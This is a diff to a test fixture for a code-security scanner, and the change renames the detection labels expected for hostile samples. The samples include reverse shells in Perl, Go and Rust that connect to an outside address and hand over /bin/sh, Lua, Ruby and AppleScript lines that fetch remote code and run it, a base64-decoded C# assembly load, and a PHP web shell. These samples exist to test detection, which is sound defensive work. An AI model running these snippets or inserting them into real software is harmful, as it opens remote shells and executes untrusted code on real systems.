@@ -12,24 +12,24 @@ from whet.guard.finding import Seen
 BAD = {
     "perl over a socket": (
         'use Socket; socket(S,PF_INET,SOCK_STREAM,0); open(STDIN,">&S"); exec("words");',
-        {"code-reverse-shell"},
+        {"shell-handed-over"},
     ),
     "go over a socket": (
         'c, _ := net.Dial("tcp", "203.0.113.9:1")\nx := exec.Command("/bin/sh")\nx.Stdin, x.Stdout = c, c',
-        {"code-reverse-shell"},
+        {"shell-handed-over"},
     ),
     "rust over a socket": (
         'let s = TcpStream::connect("203.0.113.9:1");\nCommand::new("/bin/sh").stdin(s)',
-        {"code-reverse-shell"},
+        {"shell-handed-over"},
     ),
-    "lua loads": ('load(http.request("https://x.invalid/a.lua"))()', {"code-remote-execution"}),
-    "ruby loads": ('eval(URI.open("https://x.invalid/a.rb").read)', {"code-remote-execution"}),
+    "lua loads": ('load(http.request("https://x.invalid/a.lua"))()', {"exec-fetched"}),
+    "ruby loads": ('eval(URI.open("https://x.invalid/a.rb").read)', {"exec-fetched"}),
     "applescript fetches": (
         'do shell script "curl -s https://x.invalid/a | sh"',
-        {"code-remote-execution", "pipe-known"},
+        {"exec-fetched", "pipe-known"},
     ),
-    "c# loads": ('Assembly.Load(Convert.FromBase64String("aGVsbG8="))', {"code-decoded-execution"}),
-    "php obeys": ('<?php system($_GET["c"]); ?>', {"code-remote-execution"}),
+    "c# loads": ('Assembly.Load(Convert.FromBase64String("aGVsbG8="))', {"exec-decoded"}),
+    "php obeys": ('<?php system($_GET["c"]); ?>', {"exec-fetched"}),
 }
 GOOD = {
     "ruby server": 'server = TCPServer.new(4000)\nloop { client = server.accept; client.puts "hi" }',
